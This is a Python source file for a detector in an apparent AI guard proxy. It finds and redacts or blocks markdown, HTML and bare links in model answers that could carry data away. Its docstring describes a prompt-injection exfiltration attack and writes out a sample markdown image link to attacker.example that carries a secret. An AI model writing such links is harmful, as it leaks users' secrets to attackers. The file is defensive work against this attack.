"""Links an answer could use to carry data away: markdown links and images, HTML `<img>`/`<a>`, bare URLs.

A model that read a planted instruction can be told to write `![](https://attacker.example/?d=<the secret>)`;
a chat UI that renders markdown fetches the image, and the data is gone without a click. This detector
reports, per link (the whole markdown or HTML construct as the span):

- `URL_HOST`: an absolute URL whose host is not in `allow_hosts` (a listed host also allows its subdomains);
- `URL_DATA`: a query longer than `max_query_chars`, or a path/query/fragment component carrying an encoded
  run (base64/hex-looking: letters and digits, `max_encoded_chars` or longer, not a hyphenated slug);
- `URL_SCHEME`: a `javascript:`/`vbscript:` link.

The step decides: `redact` replaces the link with `[LINK]`, `block` stops the answer. In streams the detector
also tells the stream guard where an unfinished link begins (`StreamHoldback`), so no prefix of a link is
released before the whole of it can be judged.
"""

from __future__ import annotations

import re
from typing import ClassVar, Literal
from urllib.parse import unquote, urlsplit

from guardproxy.core import Context, Detection, Span
from guardproxy.detectors.base import DetectorDeps
from guardproxy.detectors.configs import UrlGuardConfig

_URL_CHAR = r"[^\s<>\"'`\x00-\x1f\x7f-\x9f]"  # control characters end a URL (an OSC 8 terminator, say)
_BARE = rf"(?:(?:https?|ftp)://|www\.){_URL_CHAR}+"
# Order matters: the leftmost construct wins, and a markdown or HTML construct starts before its URL.
_LINK = re.compile(
    r"(?P<md>(?P<bang>!?)\[[^\]\n]{0,500}\]\(\s*<?(?P<md_url>[^)\s>]*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\))"
    r"|(?P<html><(?P<tag>img|a|image|source|video|audio|iframe)\b[^>]*?\b(?:src|href|srcset)\s*=\s*"
    r"[\"']?(?P<html_url>[^\"'\s>]+)[^>]*>?)"
    r"|(?P<ref>^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?P<ref_url>\S+?)>?(?=\s|$))"
    rf"|(?P<bare>{_BARE})",
    re.IGNORECASE | re.MULTILINE,
)
_IMAGE_TAGS = frozenset({"img", "image", "source", "video", "audio", "iframe"})
# The end of a text where a link may still be growing (streams): hold it back from its start. Markdown and HTML
# constructs do not cross a line; a bare URL (or the start of its scheme) has no whitespace.
_OPEN_MARKDOWN = re.compile(r"!?\[[^\]\n]{0,500}(?:\](?:\([^)\n]{0,4096})?)?\Z")
_OPEN_TAG = re.compile(r"<(?:[a-z][^>\n]{0,1000})?\Z", re.IGNORECASE)
_OPEN_URL = re.compile(
    rf"(?:(?:https?|ftp)://|www\.){_URL_CHAR}{{0,4096}}\Z"
    r"|(?<![\w.])(?:h|ht|htt|https?|https?:|https?:/|f|ft|ftp|ftp:|ftp:/|w|ww|www)\Z",
    re.IGNORECASE,
)
_LAST_SPACE = re.compile(r"\s(?=\S*\Z)")
_TRAILING = ".,;:!?'\")]}*_~"
_RUN = re.compile(r"[A-Za-z0-9+/=_-]+")
# A word of a slug or path: `docs`, `Python`, `2024`, `v1`. Encoded data has long mixed-case pieces instead.
_WORD = re.compile(r"[A-Za-z][a-z]{0,15}|[0-9]{1,8}|[a-z0-9]{1,12}")
_SEPARATORS = re.compile(r"[-_+/=]")
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:")


class UrlGuardDetector:
    scope: Literal["text", "request"] = "text"
    inline: ClassVar[bool] = True  # InlineDetector: regex and string work only

    def __init__(self, name: str, config: UrlGuardConfig, deps: DetectorDeps) -> None:
        self.name = name
        self._hosts = None if config.allow_hosts is None else tuple(h.lower().strip(".") for h in config.allow_hosts)
        self._images_only = config.images_only
        self._max_encoded = config.max_encoded_chars
        self._max_query = config.max_query_chars

    async def detect(self, text: str, ctx: Context) -> Detection:
        if "/" not in text and "www." not in text.lower() and ":" not in text:
            return Detection(score=0.0)  # no URL can be here: the common case costs one scan
        spans: list[Span] = []
        labels: set[str] = set()
        for m in _LINK.finditer(text):
            url, start, end, image = self._link(m)
            if self._images_only and not image:
                continue
            found = self.judge(url)
            if found:
                labels.update(found)
                spans.append(Span(start, end, "LINK"))
        if not spans:
            return Detection(score=0.0)
        return Detection(
            score=1.0, labels=tuple(sorted(labels)), spans=tuple(spans), explanation=f"{len(spans)} link(s)"
        )

    @staticmethod
    def _link(m: re.Match[str]) -> tuple[str, int, int, bool]:
        """(url, span start, span end, is an image) of one match."""
        if m.group("md") is not None:
            return m.group("md_url"), m.start(), m.end(), m.group("bang") == "!"
        if m.group("html") is not None:
            return m.group("html_url"), m.start(), m.end(), m.group("tag").lower() in _IMAGE_TAGS
        if m.group("ref") is not None:
            return m.group("ref_url"), m.start(), m.end(), False
        url = m.group("bare").rstrip(_TRAILING)
        return url, m.start(), m.start() + len(url), False

    def judge(self, url: str) -> set[str]:
        """The labels one URL earns (empty: harmless)."""
        lowered = url.strip().lower()
        if lowered.startswith(_DANGEROUS_SCHEMES):
            return {"URL_SCHEME"}
        if lowered.startswith("www."):
            url = "http://" + url
        try:
            parts = urlsplit(url.replace("\\", "/"))  # browsers read `\` as `/`: `evil\@good` is evil's
            host = (parts.hostname or "").strip(".")
        except ValueError:  # an unparseable authority ("http://[oops")
            return {"URL_HOST"}
        found: set[str] = set()
        if parts.netloc and self._hosts is not None and not _allowed(host, self._hosts):
            found.add("URL_HOST")
        if len(parts.query) > self._max_query or self._carries_data(parts.path, parts.query, parts.fragment):
            found.add("URL_DATA")
        return found

    def _carries_data(self, *components: str) -> bool:
        for component in components:
            if len(component) < self._max_encoded:
                continue
            for run in _RUN.findall(unquote(component)):
                if len(run) >= self._max_encoded and _encoded(run, self._max_encoded):
                    return True
        return False

    def unfinished_from(self, text: str) -> int | None:  # StreamHoldback
        """Where a link still being written begins at the end of `text`; looks only at the last line's
        candidates (its last `[`, its last `<`, the text after the last whitespace), so it costs the tail."""
        line = max(text.rfind("\n") + 1, len(text) - 5000)
        starts: list[int] = []
        bracket = text.rfind("[", line)
        if bracket >= 0:
            at = bracket - 1 if bracket > line and text[bracket - 1] == "!" else bracket
            if _OPEN_MARKDOWN.match(text, at):
                starts.append(at)
        angle = text.rfind("<", line)
        if angle >= 0 and _OPEN_TAG.match(text, angle):
            starts.append(angle)
        space = _LAST_SPACE.search(text, line)
        tail = space.end() if space is not None else line
        found = _OPEN_URL.search(text, tail)
        if found is not None:
            starts.append(found.start())
        return min(starts, default=None)

    async def aclose(self) -> None:
        return None


def _allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == a or host.endswith("." + a) for a in allowed)


def _encoded(run: str, min_chars: int) -> bool:
    """A stretch of `min_chars` or more that looks like base64/hex rather than words: consecutive pieces that are
    not words (`docs`, `Python`, `2024`, `v1`), letters and digits mixed. Words between separators break the
    stretch, so `/repo/commit/<40-hex sha>` is a 40-character stretch and a slug is none."""
    group: list[str] = []
    for piece in [*_SEPARATORS.split(run), "end"]:  # a final word closes the last stretch
        if not piece or not _WORD.fullmatch(piece):
            group.append(piece)
            continue
        stretch = "/".join(group)
        if len(stretch) >= min_chars and any(c.isdigit() for c in stretch) and any(c.isalpha() for c in stretch):
            return True
        group = []
    return False
